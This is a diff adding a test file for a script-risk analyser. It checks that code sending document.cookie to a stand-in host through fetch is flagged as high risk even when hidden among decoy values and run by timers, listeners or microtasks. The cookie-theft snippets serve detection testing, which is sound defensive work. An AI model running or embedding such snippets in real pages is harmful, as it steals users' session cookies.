@@ -1,0 +1,25 @@
+import { describe, expect, test } from "vitest";
+import { analyzeScript } from "../analyze-script.ts";
+import { traceOf } from "../testing/trace-of.ts";
+
+const SEND = `const send = (text) => fetch("https://c.test/?" + text);`;
+const OTHERS = Array.from({ length: 14 }, (_, index) => `"a${index}"`).join();
+
+describe("many calls of one function", () => {
+	test.each([
+		["timers", `for (const text of [${OTHERS}, document.cookie]) setTimeout(send, 9, text);`],
+		[
+			"timers with functions of their own",
+			`[${OTHERS}, document.cookie].forEach((text) => setTimeout(() => send(text)));`,
+		],
+		[
+			"bound listeners",
+			`for (const text of [${OTHERS}, document.cookie]) addEventListener("scroll", send.bind(null, text));`,
+		],
+		["microtasks", `for (const text of [${OTHERS}, document.cookie]) queueMicrotask(() => send(text));`],
+	])("%s: none is left out", (_title, code) => {
+		expect(analyzeScript({ code: SEND + code }).risk_level).toBe("red");
+		expect(traceOf(SEND + code).status).toBe("complete");
+		expect(analyzeScript({ code: SEND + code.replace("document.cookie", "'b'") }).risk_level).toBe("green");
+	});
+});
